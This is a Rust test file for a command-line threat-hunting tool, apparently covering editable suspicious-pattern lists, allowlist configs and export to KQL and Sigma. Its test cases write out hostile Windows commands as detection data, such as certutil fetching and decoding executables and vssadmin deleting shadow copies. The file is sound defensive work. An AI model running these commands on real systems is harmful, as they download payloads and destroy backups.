//! Tuning: edited lists, the config file, allowlists and the KQL export,
//! as tables and on real exports from `../shared/data`.

mod common;

use cmdhunt_core::kql::{decode_string_literal, equals_ci, has};
use cmdhunt_core::matcher::{CompiledRule, ListError, MAX_NEEDLES};
use cmdhunt_core::results::{self, Anchor, Window};
use cmdhunt_core::rule::{Column, KQL_TEXT, SUSPICIOUS_PARENTS, SUSPICIOUS_PATTERNS};
use cmdhunt_core::scan::{FileScan, FlaggedRow};
use cmdhunt_core::time::{Duration, Timestamp};
use cmdhunt_core::tuning::{
    kql, presets, AllowEntry, Condition, Config, ConfigErrorKind, EntryStatus, Field, MatchKind,
    Mode,
};

use common::{read, shared};

fn at(text: &str) -> Timestamp {
    Timestamp::parse(text).expect("time")
}

fn scan_with(rule: &CompiledRule, path: &str) -> Vec<FlaggedRow> {
    let bytes = read(&shared(path));
    let mut s = FileScan::new(rule, 0, path, None);
    for c in bytes.chunks(64 << 10) {
        s.push(c);
    }
    s.finish().1
}

/// Real exports with flagged rows, in several formats.
const REAL: [&str; 5] = [
    "defender/mde_proc_cs1.csv",
    "defender/processes_on_host.csv",
    "otrf/schtask_create_2020-12-1907003032.json",
    "otrf/empire_wmic_add_user_backdoor_2020-09-14080546.json",
    "sysmon-evtx/AutomatedTestingTools/PanacheSysmon_vs_AtomicRedTeam01.evtx",
];

// ---------------------------------------------------------------- edited lists

#[test]
fn the_rules_own_lists_compile_to_the_same_rule() {
    let patterns: Vec<&str> = SUSPICIOUS_PATTERNS.iter().map(|n| n.value).collect();
    let parents: Vec<&str> = SUSPICIOUS_PARENTS.iter().map(|n| n.value).collect();
    let edited = CompiledRule::from_lists(&patterns, &parents).unwrap();
    let original = CompiledRule::new();
    let mut total = 0;
    for path in REAL {
        let a = scan_with(&original, path);
        let b = scan_with(&edited, path);
        assert_eq!(a, b, "{path}");
        for row in &a {
            let names: Vec<&str> = edited.matched(&row.verdict).collect();
            assert_eq!(names, row.verdict.matched().collect::<Vec<_>>(), "{path}");
        }
        total += a.len();
    }
    assert!(total >= 40, "the real files flag rows ({total})");
}

#[test]
fn edited_lists_table() {
    // (patterns, parents, command line, parent, flagged, matched, flags)
    type Case = (
        &'static [&'static str],
        &'static [&'static str],
        &'static str,
        &'static str,
        bool,
        &'static [&'static str],
        [bool; 5],
    );
    let f = false;
    let t = true;
    let cases: [Case; 9] = [
        // an added pattern flags, with term boundaries
        (
            &["tasklist"],
            &[],
            "cmd /c tasklist /v",
            "explorer.exe",
            t,
            &["tasklist"],
            [f; 5],
        ),
        (
            &["tasklist"],
            &[],
            "cmd /c mytasklist",
            "explorer.exe",
            f,
            &[],
            [f; 5],
        ),
        // a removed pattern no longer flags
        (
            &["reg add"],
            &["winword.exe"],
            "cmd /c for /f x",
            "explorer.exe",
            f,
            &[],
            [f; 5],
        ),
        // a flag's literal off the list still sets the flag on a row flagged otherwise (KQL extend)
        (
            &["reg add"],
            &[],
            "certutil -urlcache -f http://x a & reg add k",
            "explorer.exe",
            t,
            &["reg add"],
            [t, f, f, f, f],
        ),
        // ...but does not flag by itself
        (
            &["reg add"],
            &[],
            "certutil -urlcache -f http://x a",
            "explorer.exe",
            f,
            &[],
            [f; 5],
        ),
        // SuspiciousParent follows the edited parents list (has_any (SuspiciousParents))
        (
            &[],
            &["psexesvc.exe"],
            "cmd /c whoami",
            "PSEXESVC.EXE",
            t,
            &["psexesvc.exe"],
            [f, f, f, f, t],
        ),
        (
            &[],
            &["psexesvc.exe"],
            "cmd /c whoami",
            "winword.exe",
            f,
            &[],
            [f; 5],
        ),
        // both lists empty: nothing is flagged
        (&[], &[], "cmd /c reg add x", "winword.exe", f, &[], [f; 5]),
        // order of matched names is list order
        (
            &["zz top", "reg add"],
            &[],
            "reg add & zz top",
            "x",
            t,
            &["zz top", "reg add"],
            [f; 5],
        ),
    ];
    for (patterns, parents, cmd, parent, flagged, matched, flags) in cases {
        let rule = CompiledRule::from_lists(patterns, parents).unwrap();
        let v = rule.verdict(cmd, parent);
        assert_eq!(
            v.is_flagged(),
            flagged,
            "{patterns:?} {parents:?} {cmd:?} {parent:?}"
        );
        assert_eq!(rule.matched(&v).collect::<Vec<_>>(), matched, "{cmd:?}");
        if flagged {
            assert_eq!(v.flags.0, flags, "{cmd:?} {parent:?}");
        }
        assert_eq!(rule.evaluate("cmd.exe", cmd, parent).is_some(), flagged);
        let spans = rule.pattern_spans(cmd);
        assert!(spans.iter().all(|s| s.needle < patterns.len()), "{cmd:?}");
    }
}

#[test]
fn list_errors() {
    assert_eq!(
        CompiledRule::from_lists(&["a", ""], &["b"]).unwrap_err(),
        ListError::Empty {
            list: Column::ProcessCommandLine,
            index: 1
        }
    );
    assert_eq!(
        CompiledRule::from_lists(&["a"], &[""]).unwrap_err(),
        ListError::Empty {
            list: Column::InitiatingProcessFileName,
            index: 0
        }
    );
    // The flags' 6 command-line literals count when the list lacks them.
    let many: Vec<String> = (0..MAX_NEEDLES - 5).map(|i| format!("p{i}")).collect();
    assert!(matches!(
        CompiledRule::from_lists(&many, &["x"]),
        Err(ListError::TooMany { list: Column::ProcessCommandLine, count }) if count == MAX_NEEDLES + 1
    ));
    let fits: Vec<String> = (0..MAX_NEEDLES - 6).map(|i| format!("p{i}")).collect();
    assert!(CompiledRule::from_lists(&fits, &["x"]).is_ok());
    let parents: Vec<String> = (0..=MAX_NEEDLES).map(|i| format!("p{i}.exe")).collect();
    assert!(CompiledRule::from_lists(&["a"], &parents).is_err());
}

// ---------------------------------------------------------------- the config

#[test]
fn config_errors_name_their_kind_and_path() {
    use ConfigErrorKind::*;
    let entry = |when: &str| {
        format!(
            r#"{{"version": 1, "allowlist": [{{"id": "a", "reason": "r", "when": [{when}]}}]}}"#
        )
    };
    let cases: Vec<(String, ConfigErrorKind, &str)> = vec![
        ("{".into(), Syntax, "$"),
        ("[]".into(), WrongType, "$"),
        ("{}".into(), MissingKey, "$"),
        (r#"{"version": 2}"#.into(), UnsupportedVersion, "$.version"),
        (r#"{"version": "1"}"#.into(), UnsupportedVersion, "$.version"),
        (r#"{"version": 1, "windw": "7d"}"#.into(), UnknownKey, "$.windw"),
        (r#"{"version": 1, "mode": "fast"}"#.into(), BadValue, "$.mode"),
        (r#"{"version": 1, "mode": 1}"#.into(), WrongType, "$.mode"),
        (r#"{"version": 1, "window": "3x"}"#.into(), BadValue, "$.window"),
        (r#"{"version": 1, "window": "0h"}"#.into(), BadValue, "$.window"),
        (r#"{"version": 1, "anchor": "yesterday"}"#.into(), BadValue, "$.anchor"),
        (r#"{"version": 1, "SuspiciousPatterns": "reg add"}"#.into(), WrongType, "$.SuspiciousPatterns"),
        (r#"{"version": 1, "SuspiciousPatterns": ["a", 3]}"#.into(), WrongType, "$.SuspiciousPatterns[1]"),
        (r#"{"version": 1, "SuspiciousPatterns": ["a", ""]}"#.into(), BadValue, "$.SuspiciousPatterns[1]"),
        (r#"{"version": 1, "SuspiciousPatterns": ["Reg Add", "reg add"]}"#.into(), BadValue, "$.SuspiciousPatterns[1]"),
        (r#"{"version": 1, "SuspiciousParents": ["a\u0001"]}"#.into(), BadValue, "$.SuspiciousParents[0]"),
        (r#"{"version": 1, "allowlist": {}}"#.into(), WrongType, "$.allowlist"),
        (r#"{"version": 1, "allowlist": [{"reason": "r", "when": []}]}"#.into(), MissingKey, "$.allowlist[0]"),
        (r#"{"version": 1, "allowlist": [{"id": "a", "reason": " ", "when": []}]}"#.into(), BadValue, "$.allowlist[0].reason"),
        (r#"{"version": 1, "allowlist": [{"id": "a", "reason": "r", "when": []}]}"#.into(), BadValue, "$.allowlist[0].when"),
        (r#"{"version": 1, "allowlist": [{"id": "a", "reason": "r", "enabled": "no", "when": []}]}"#.into(), WrongType, "$.allowlist[0].enabled"),
        (r#"{"version": 1, "allowlist": [{"id": "a", "reason": "r", "expires": "soon", "when": []}]}"#.into(), BadValue, "$.allowlist[0].expires"),
        (entry(r#"{"field": "Image", "match": "has", "value": "x"}"#), BadValue, "$.allowlist[0].when[0].field"),
        (entry(r#"{"field": "DeviceName", "match": "contains", "value": "x"}"#), BadValue, "$.allowlist[0].when[0].match"),
        (entry(r#"{"field": "DeviceName", "match": "regex", "value": "(x"}"#), BadValue, "$.allowlist[0].when[0].value"),
        (entry(r#"{"field": "DeviceName", "match": "has", "value": ""}"#), BadValue, "$.allowlist[0].when[0].value"),
        (entry(r#"{"field": "DeviceName", "match": "has"}"#), MissingKey, "$.allowlist[0].when[0]"),
        (entry(r#"{"field": "DeviceName", "match": "has", "value": "x", "neg": true}"#), UnknownKey, "$.allowlist[0].when[0].neg"),
        (
            r#"{"version": 1, "allowlist": [
                {"id": "a", "reason": "r", "when": [{"field": "DeviceName", "match": "=~", "value": "x"}]},
                {"id": "a", "reason": "r", "when": [{"field": "DeviceName", "match": "=~", "value": "y"}]}]}"#
                .into(),
            BadValue,
            "$.allowlist[1].id",
        ),
        (
            format!(
                r#"{{"version": 1, "SuspiciousPatterns": [{}]}}"#,
                (0..40).map(|i| format!("\"p{i}\"")).collect::<Vec<_>>().join(",")
            ),
            BadValue,
            "$.SuspiciousPatterns",
        ),
    ];
    for (text, kind, path) in &cases {
        let e = Config::parse(text).expect_err(text);
        assert_eq!((e.kind, e.path.as_str()), (*kind, *path), "{text}: {e}");
        assert!(e.to_string().contains(path) || e.line > 0, "{e}");
    }
    let e = Config::parse("{\n  \"version\": 1,\n  \"mode\": parity\n}").unwrap_err();
    assert_eq!((e.kind, e.line, e.column), (Syntax, 3, 11), "{e}");
    assert!(
        e.to_string().starts_with("config line 3, column 11:"),
        "{e}"
    );
}

#[test]
fn config_defaults_and_values() {
    let c = Config::parse(r#"{"version": 1}"#).unwrap();
    assert_eq!(c, Config::default());
    assert!(c.compile().unwrap().is_default());
    assert_eq!(c.results_window(Timestamp(0)), Window::default());
    let c = Config::parse(
        r#"{"version": 1, "mode": "hardened", "window": "7d", "anchor": "2024-05-01",
            "SuspiciousPatterns": ["reg add", "tasklist"], "SuspiciousParents": []}"#,
    )
    .unwrap();
    assert_eq!(c.mode, Mode::Hardened);
    assert_eq!(
        c.results_window(Timestamp(0)),
        Window::Last {
            duration: Duration::from_secs(7 * 86_400),
            anchor: Anchor::At(at("2024-05-01T00:00:00Z"))
        }
    );
    let rule = c.compile().unwrap();
    assert!(!rule.is_default());
    assert_eq!(rule.patterns(), ["reg add", "tasklist"]);
    assert!(rule.parents().is_empty());
    let now = at("2030-01-01T00:00:00Z");
    let c = Config::parse(r#"{"version": 1, "window": "all", "anchor": "now"}"#).unwrap();
    assert_eq!(c.results_window(now), Window::All);
    let c = Config::parse(r#"{"version": 1, "window": "90m", "anchor": "now"}"#).unwrap();
    assert_eq!(
        c.results_window(now),
        Window::Last {
            duration: Duration::from_secs(5400),
            anchor: Anchor::Now(now)
        }
    );
}

#[test]
fn config_round_trips_through_its_json() {
    let mut hostile = Config::default();
    hostile.patterns.push("say \"hi\" \\ there\t\n".into());
    hostile.patterns.push("ünïcödé pattern".into());
    hostile.parents = vec!["psexesvc.exe".into()];
    hostile.mode = Mode::Hardened;
    let mut configs = vec![Config::default(), hostile];
    let mut with_presets = Config::default();
    with_presets.allowlist.entries = presets();
    with_presets.allowlist.entries.push(AllowEntry {
        id: "quote\"id".into(),
        reason: "line one\nline two".into(),
        enabled: true,
        expires: Some(cmdhunt_core::tuning::Expiry {
            at: at("2027-01-31T00:00:00Z"),
            text: "2027-01-31".into(),
        }),
        when: vec![
            Condition::new(Field::AccountName, MatchKind::Equals, "").unwrap(),
            Condition::new(Field::DeviceName, MatchKind::Regex, r"(?i)^build-\d+$").unwrap(),
        ],
    });
    configs.push(with_presets);
    for c in configs {
        let text = c.to_json();
        let back = Config::parse(&text).unwrap_or_else(|e| panic!("{e}\n{text}"));
        assert_eq!(back, c, "{text}");
        assert_eq!(back.to_json(), text);
    }
}

// ---------------------------------------------------------------- allowlists

fn event(field: Field, text: &str) -> cmdhunt_core::event::ProcessEvent {
    let mut e = cmdhunt_core::event::ProcessEvent::default();
    match field {
        Field::DeviceName => e.device_name = text.into(),
        Field::AccountName => e.account_name = text.into(),
        Field::InitiatingProcessFileName => e.initiating_process_file_name = text.into(),
        Field::InitiatingProcessCommandLine => e.initiating_process_command_line = text.into(),
        Field::ProcessCommandLine => e.process_command_line = text.into(),
    }
    e
}

#[test]
fn conditions_table() {
    use Field::*;
    use MatchKind::*;
    let cases: [(Field, MatchKind, &str, &str, bool); 16] = [
        (
            ProcessCommandLine,
            Has,
            "certutil -addstore",
            "cmd /c CERTUTIL -addstore root a.cer",
            true,
        ),
        (
            ProcessCommandLine,
            Has,
            "certutil -addstore",
            "cmd /c xcertutil -addstore root",
            false,
        ),
        (
            ProcessCommandLine,
            Has,
            "addstore",
            "certutil -addstorex",
            false,
        ),
        (DeviceName, Equals, "BUILD01", "build01", true),
        (DeviceName, Equals, "build01", "build01.corp", false),
        (DeviceName, Equals, "build01", "build01 ", false),
        (AccountName, Equals, "", "", true),
        (AccountName, Equals, "", "bob", false),
        (
            InitiatingProcessFileName,
            Has,
            "ccmexec.exe",
            "CcmExec.exe",
            true,
        ),
        (
            InitiatingProcessCommandLine,
            Has,
            "deploy.ps1",
            "powershell -f c:\\it\\deploy.ps1",
            true,
        ),
        (DeviceName, Regex, r"^build-\d+$", "build-17", true),
        (DeviceName, Regex, r"^build-\d+$", "BUILD-17", false),
        (DeviceName, Regex, r"(?i)^build-\d+$", "BUILD-17", true),
        (DeviceName, Regex, r"build", "ci-build-17", true),
        (ProcessCommandLine, Regex, r"(?i)ünï", "ÜNÏ", true),
        (ProcessCommandLine, Has, "Ünï", "x ünï y", true),
    ];
    for (field, kind, value, text, want) in cases {
        let c = Condition::new(field, kind, value).unwrap();
        assert_eq!(
            c.matches(&event(field, text)),
            want,
            "{field:?} {kind:?} {value:?} on {text:?}"
        );
        // a condition only looks at its own field
        let other = if field == DeviceName {
            AccountName
        } else {
            DeviceName
        };
        if !value.is_empty() {
            assert!(
                !c.matches(&event(other, text)),
                "{field:?} {value:?} read {other:?}"
            );
        }
    }
}

#[test]
fn entry_status_table() {
    let now = at("2026-12-03T12:00:00Z");
    let entry = |enabled: bool, expires: Option<&str>| AllowEntry {
        id: "e".into(),
        reason: "r".into(),
        enabled,
        expires: expires.map(|t| cmdhunt_core::tuning::Expiry {
            at: at(t),
            text: t.into(),
        }),
        when: vec![Condition::new(Field::DeviceName, MatchKind::Equals, "pc").unwrap()],
    };
    let cases = [
        (true, None, EntryStatus::Active),
        (false, None, EntryStatus::Disabled),
        (true, Some("2026-12-03T12:00:01Z"), EntryStatus::Active),
        (true, Some("2026-12-03T12:00:00Z"), EntryStatus::Expired),
        (true, Some("2020-01-01T00:00:00Z"), EntryStatus::Expired),
        (false, Some("2020-01-01T00:00:00Z"), EntryStatus::Disabled),
    ];
    for (enabled, expires, want) in cases {
        assert_eq!(
            entry(enabled, expires).status(now),
            want,
            "{enabled} {expires:?}"
        );
    }
}

/// The rows of a real export an entry should suppress, computed from the
/// rows' text without the allowlist code.
#[test]
fn an_allowlist_suppresses_exactly_the_rows_it_names_on_real_data() {
    let rule = CompiledRule::new();
    let rows = scan_with(&rule, "defender/mde_proc_cs1.csv");
    let order = results::select(&rows, &Window::All, None);
    let config = Config::parse(
        r#"{"version": 1, "allowlist": [
            {"id": "mshta", "reason": "test", "when": [{"field": "InitiatingProcessFileName", "match": "=~", "value": "MSHTA.EXE"}]},
            {"id": "netstat", "reason": "test", "when": [{"field": "ProcessCommandLine", "match": "has", "value": "netstat -ano"}]},
            {"id": "ipconfig", "reason": "test", "when": [{"field": "ProcessCommandLine", "match": "regex", "value": "ipconfig\\s+/all"}]},
            {"id": "off", "reason": "test", "enabled": false, "when": [{"field": "ProcessCommandLine", "match": "has", "value": "cmd.exe"}]},
            {"id": "old", "reason": "test", "expires": "2020-01-01", "when": [{"field": "ProcessCommandLine", "match": "has", "value": "cmd.exe"}]},
            {"id": "nothing", "reason": "test", "when": [{"field": "DeviceName", "match": "=~", "value": "no-such-host"}]}
        ]}"#,
    )
    .unwrap();
    let now = at("2026-12-03T00:00:00Z");
    let applied = config.allowlist.apply(&rows, &order, now);
    let oracles: [&dyn Fn(&FlaggedRow) -> bool; 6] = [
        &|r| r.event.initiating_process_file_name.to_lowercase() == "mshta.exe",
        &|r| {
            r.event
                .process_command_line
                .to_lowercase()
                .contains("netstat -ano")
        },
        &|r| r.event.process_command_line.contains("ipconfig /all"),
        &|_| false,
        &|_| false,
        &|_| false,
    ];
    let mut expected_suppressed = Vec::new();
    for (i, oracle) in oracles.iter().enumerate() {
        let want: Vec<usize> = order
            .iter()
            .copied()
            .filter(|&r| oracle(&rows[r]))
            .collect();
        assert_eq!(applied.counts[i], want.len() as u64, "entry {i}");
        for r in want {
            assert!(applied.entries_for(r).contains(&i), "row {r} entry {i}");
            expected_suppressed.push(r);
        }
    }
    assert_eq!(
        applied.counts[..3]
            .iter()
            .map(|&c| c > 0)
            .collect::<Vec<_>>(),
        [true; 3]
    );
    expected_suppressed.sort();
    expected_suppressed.dedup();
    let mut got = applied.suppressed.clone();
    got.sort();
    assert_eq!(got, expected_suppressed);
    // kept + suppressed partition the rows, each keeping the rule's order
    assert_eq!(applied.kept.len() + applied.suppressed.len(), order.len());
    let pos = |r: &usize| order.iter().position(|o| o == r).unwrap();
    assert!(applied.kept.windows(2).all(|w| pos(&w[0]) < pos(&w[1])));
    assert!(applied
        .suppressed
        .windows(2)
        .all(|w| pos(&w[0]) < pos(&w[1])));
    assert!(applied
        .kept
        .iter()
        .all(|r| applied.entries_for(*r).is_empty()));
    assert_eq!(
        applied.status,
        [
            EntryStatus::Active,
            EntryStatus::Active,
            EntryStatus::Active,
            EntryStatus::Disabled,
            EntryStatus::Expired,
            EntryStatus::Active
        ]
    );
}

#[test]
fn presets_are_off_by_default_and_suppress_their_class_only() {
    // (preset id, command line, parent, suppressed when enabled)
    let cases = [
        (
            "preset-certutil-certificates",
            "cmd /c certutil -encode C:\\pki\\root.cer root.b64",
            "explorer.exe",
            true,
        ),
        (
            "preset-certutil-certificates",
            "cmd /c certutil.exe -urlcache * delete",
            "explorer.exe",
            true,
        ),
        (
            "preset-certutil-certificates",
            "cmd /c certutil -urlcache -split -f http://10.0.0.5/a.exe a.exe",
            "explorer.exe",
            false,
        ),
        (
            "preset-certutil-certificates",
            "cmd /c certutil -decode payload.txt payload.exe",
            "explorer.exe",
            false,
        ),
        (
            "preset-deployment-scheduled-tasks",
            "cmd /c schtasks /create /tn Patch /tr c:\\it\\patch.exe",
            "CcmExec.exe",
            true,
        ),
        (
            "preset-deployment-scheduled-tasks",
            "cmd /c schtasks /create /tn Patch /tr c:\\it\\patch.exe",
            "winword.exe",
            false,
        ),
        (
            "preset-backup-vss",
            "cmd /c vssadmin delete shadows /for=c: /oldest /quiet",
            "VeeamAgent.exe",
            true,
        ),
        (
            "preset-backup-vss",
            "cmd /c vssadmin delete shadows /all /quiet",
            "mshta.exe",
            false,
        ),
        (
            "preset-it-automation-batch",
            "cmd /c \"C:\\ProgramData\\agent\\configure.bat\"",
            "ltsvc.exe",
            true,
        ),
        (
            "preset-it-automation-batch",
            "cmd /c reg add HKLM\\x",
            "ltsvc.exe",
            false,
        ),
    ];
    let all = presets();
    assert_eq!(all.len(), 4);
    for (id, cmd, parent, want) in cases {
        let e = cmdhunt_core::event::ProcessEvent {
            process_command_line: cmd.into(),
            initiating_process_file_name: parent.into(),
            ..Default::default()
        };
        let preset = all.iter().find(|p| p.id == id).expect(id);
        assert_eq!(preset.status(Timestamp(0)), EntryStatus::Disabled);
        assert_eq!(preset.matches(&e), want, "{id}: {cmd} / {parent}");
        let mut config = Config::default();
        config.allowlist.entries = all.clone();
        assert!(
            config.allowlist.suppressing(&e, Timestamp(0)).is_empty(),
            "off by default"
        );
        for p in &mut config.allowlist.entries {
            p.enabled = true;
        }
        assert_eq!(
            !config.allowlist.suppressing(&e, Timestamp(0)).is_empty(),
            want,
            "{id}: {cmd}"
        );
    }
}

// ---------------------------------------------------------------- KQL export

/// The decoded values of `let NAME = dynamic([...]);` in a query: each
/// literal is cut out by its quotes and decoded with the core's
/// [`decode_string_literal`] (as the rule's tests read `rule.kql`).
fn dynamic_list(query: &str, name: &str) -> Vec<String> {
    let head = format!("let {name} = dynamic([");
    let start = query.find(&head).unwrap_or_else(|| panic!("no {head}")) + head.len();
    let mut out = Vec::new();
    let mut chars = query[start..].char_indices().peekable();
    while let Some((i, c)) = chars.next() {
        match c {
            ']' => return out,
            '"' => {
                let mut end = i + 1;
                let mut escaped = false;
                for (j, d) in chars.by_ref() {
                    end = j + 1;
                    match d {
                        _ if escaped => escaped = false,
                        '\\' => escaped = true,
                        '"' => break,
                        _ => {}
                    }
                }
                let literal = &query[start + i..start + end];
                out.push(
                    decode_string_literal(literal).unwrap_or_else(|e| panic!("{literal}: {e}")),
                );
            }
            c if c.is_whitespace() || c == ',' => {}
            other => panic!("unexpected {other:?} in {name}"),
        }
    }
    panic!("{name} not closed")
}

#[test]
fn exported_kql_lists_equal_the_config() {
    let mut edited = Config::default();
    edited.patterns.retain(|p| p != "for /f");
    edited
        .patterns
        .push("say \"hi\" \\\\server\\share\t".into());
    edited.patterns.push("ünï".into());
    edited.parents.push("psexesvc.exe".into());
    let mut empty = Config::default();
    empty.patterns.clear();
    empty.parents.clear();
    for config in [Config::default(), edited, empty] {
        let text = kql::render(&config, Timestamp(0));
        assert_eq!(
            dynamic_list(&text, "SuspiciousPatterns"),
            config.patterns,
            "{text}"
        );
        assert_eq!(
            dynamic_list(&text, "SuspiciousParents"),
            config.parents,
            "{text}"
        );
    }
    // the reader reads the published rule's lists too
    let published: Vec<&str> = SUSPICIOUS_PATTERNS.iter().map(|n| n.value).collect();
    assert_eq!(dynamic_list(KQL_TEXT, "SuspiciousPatterns"), published);
}

#[test]
fn exported_kql_has_the_published_body_and_one_clause_per_active_entry() {
    let text = kql::render(&Config::default(), Timestamp(0));
    let body: Vec<&str> = text.lines().skip_while(|l| l.starts_with("//")).collect();
    assert_eq!(body.join("\n"), KQL_TEXT.trim_end());

    let config = Config::parse(
        r#"{"version": 1, "window": "7d", "allowlist": [
          {"id": "sccm", "reason": "ConfigMgr\nclient", "when": [
             {"field": "InitiatingProcessFileName", "match": "=~", "value": "ccmexec.exe"},
             {"field": "ProcessCommandLine", "match": "has", "value": "schtasks /create"}]},
          {"id": "build", "reason": "build farm", "expires": "2027-01-31", "when": [
             {"field": "DeviceName", "match": "regex", "value": "(?i)^build-\\d+\\.corp\\\\x\"y$"}]},
          {"id": "off", "reason": "later", "enabled": false, "when": [
             {"field": "AccountName", "match": "=~", "value": "svc"}]},
          {"id": "gone", "reason": "done", "expires": "2020-01-01", "when": [
             {"field": "AccountName", "match": "=~", "value": "old"}]}
        ]}"#,
    )
    .unwrap();
    let text = kql::render(&config, at("2026-12-03T00:00:00Z"));
    let want = [
        "| where ProcessCommandLine has_any (SuspiciousPatterns) or InitiatingProcessFileName has_any (SuspiciousParents)",
        "// allowlist sccm: ConfigMgr client",
        "| where not(InitiatingProcessFileName =~ \"ccmexec.exe\" and ProcessCommandLine has \"schtasks /create\")",
        "// allowlist build: build farm",
        r#"| where not(now() < datetime(2027-01-31T00:00:00.0000000Z) and (DeviceName matches regex "(?i)^build-\\d+\\.corp\\\\x\"y$"))"#,
        "// allowlist off (disabled, not applied): later",
        "// allowlist gone (expired 2020-01-01T00:00:00.0000000Z, not applied): done",
        "| extend CertutilAbuse = ProcessCommandLine has_any (\"certutil -urlcache\", \"certutil -decode\")",
    ];
    let lines: Vec<&str> = text.lines().collect();
    let first = lines.iter().position(|l| *l == want[0]).expect(want[0]);
    assert_eq!(&lines[first..first + want.len()], want, "{text}");
    assert!(text.contains("\n| where Timestamp > ago(7d)\n"), "{text}");
    // the regex literal decodes back to the config's pattern
    let literal = want[4]
        .split("matches regex ")
        .nth(1)
        .unwrap()
        .trim_end_matches("))");
    assert_eq!(
        decode_string_literal(literal).unwrap(),
        config.allowlist.entries[1].when[0].value
    );
    // nothing after the clauses changed: extends, projection, sort
    assert!(text.ends_with("| sort by Timestamp desc\n"));
}

#[test]
fn exported_kql_windows() {
    let cases = [
        (r#""window": "all""#, "// no time filter (window: all)"),
        (r#""window": "90m""#, "| where Timestamp > ago(90m)"),
        (r#""window": "1.5h""#, "| where Timestamp > ago(90m)"),
        (r#""window": "500ms""#, "| where Timestamp > ago(500ms)"),
        (
            r#""window": "2d", "anchor": "2024-05-01T12:00:00Z""#,
            "| where Timestamp > datetime(2024-05-01T12:00:00.0000000Z) - 2d and Timestamp <= datetime(2024-05-01T12:00:00.0000000Z)",
        ),
    ];
    for (json, line) in cases {
        let config = Config::parse(&format!(r#"{{"version": 1, {json}}}"#)).unwrap();
        let text = kql::render(&config, Timestamp(0));
        assert!(text.lines().any(|l| l == line), "{json}: {text}");
        assert!(!text.contains("ago(24h)"), "{json}");
    }
}

#[test]
fn equality_helpers_agree_with_the_conditions() {
    // `=~` and `has` in allowlists are the rule's own functions
    for (text, value) in [
        ("CMD.EXE", "cmd.exe"),
        ("reg  add", "reg add"),
        ("ÄBC", "äbc"),
    ] {
        let eq = Condition::new(Field::DeviceName, MatchKind::Equals, value).unwrap();
        let hs = Condition::new(Field::DeviceName, MatchKind::Has, value).unwrap();
        let e = event(Field::DeviceName, text);
        assert_eq!(eq.matches(&e), equals_ci(text, value));
        assert_eq!(hs.matches(&e), has(text, value));
    }
}

#[test]
fn sigma_filter_lines() {
    use cmdhunt_core::tuning::sigma;
    // (field, match, value, the filter's line)
    let cases = [
        (
            "AccountName",
            "=~",
            "svc_backup",
            r"        User|endswith: '\svc_backup'",
        ),
        ("AccountName", "=~", "", "        User: ''"),
        (
            "InitiatingProcessFileName",
            "=~",
            "ccmexec.exe",
            r"        ParentImage|endswith: '\ccmexec.exe'",
        ),
        (
            "DeviceName",
            "=~",
            "it's-pc",
            "        Computer: 'it''s-pc'",
        ),
        (
            "ProcessCommandLine",
            "has",
            r"x*y?\\z",
            r"        CommandLine|contains: 'x\*y\?\\\z'",
        ),
        (
            "InitiatingProcessCommandLine",
            "regex",
            r"(?i)^a\d+$",
            r"        ParentCommandLine|re: '(?i)^a\d+$'",
        ),
        (
            "ProcessCommandLine",
            "has",
            "tab\there",
            r#"        CommandLine|contains: "tab\there""#,
        ),
    ];
    for (field, kind, value, line) in cases {
        let json = format!(
            r#"{{"version": 1, "allowlist": [{{"id": "e", "reason": "r", "when": [{{"field": {}, "match": {}, "value": {}}}]}}]}}"#,
            serde_json::to_string(field).unwrap(),
            serde_json::to_string(kind).unwrap(),
            serde_json::to_string(value).unwrap()
        );
        let config = Config::parse(&json).unwrap();
        let text = sigma::render(&config, Timestamp(0));
        assert!(text.lines().any(|l| l == line), "{line:?} not in\n{text}");
    }
}

#[test]
fn mangled_configs_are_errors_never_panics() {
    let mut config = Config::default();
    config.allowlist.entries = presets();
    config.allowlist.entries[0].enabled = true;
    let text = config.to_json();
    let bytes = text.as_bytes();
    let alphabet = b"{}[]\":,\\ 0123456789.eE-+tfnul\x01\xff";
    let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let (mut ok, mut errors) = (0, 0);
    for _ in 0..300 {
        let mut mangled = bytes.to_vec();
        for _ in 0..1 + next() % 3 {
            let at = (next() % mangled.len() as u64) as usize;
            match next() % 3 {
                0 => {
                    mangled.remove(at);
                }
                1 => mangled[at] = alphabet[(next() % alphabet.len() as u64) as usize],
                _ => mangled.insert(at, alphabet[(next() % alphabet.len() as u64) as usize]),
            }
        }
        let Ok(text) = std::str::from_utf8(&mangled) else {
            continue;
        };
        match Config::parse(text) {
            Ok(c) => {
                ok += 1;
                assert_eq!(Config::parse(&c.to_json()).as_ref(), Ok(&c));
            }
            Err(e) => {
                errors += 1;
                assert!(!e.message.is_empty() && !e.path.is_empty());
            }
        }
    }
    assert!(ok > 0 && errors > 0, "{ok} parsed, {errors} refused");
}

#[test]
fn has_conditions_agree_with_kql_has() {
    // Random texts and needles from pieces that sit on and off term
    // boundaries, in any case, ASCII or not (U+212A KELVIN SIGN folds to `k`).
    let pieces = [
        "reg", "REG", " ", "  ", "add", "Add", "x", "/", "-", ".exe", "k", "\u{212A}", "ß", "İ",
        "é", "schtasks", "/create", "\"", "\\",
    ];
    let mut state: u64 = 0x2545_f491_4f6c_dd1d;
    let mut next = |n: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state % n as u64) as usize
    };
    let mut hits = 0;
    for _ in 0..20_000 {
        let text: String = (0..next(8)).map(|_| pieces[next(pieces.len())]).collect();
        let needle: String = (0..1 + next(3))
            .map(|_| pieces[next(pieces.len())])
            .collect();
        let Ok(c) = Condition::new(Field::ProcessCommandLine, MatchKind::Has, &needle) else {
            continue;
        };
        let want = has(&text, &needle);
        hits += usize::from(want);
        assert_eq!(
            c.matches(&event(Field::ProcessCommandLine, &text)),
            want,
            "{text:?} has {needle:?}"
        );
    }
    assert!(hits > 100, "{hits}");
}
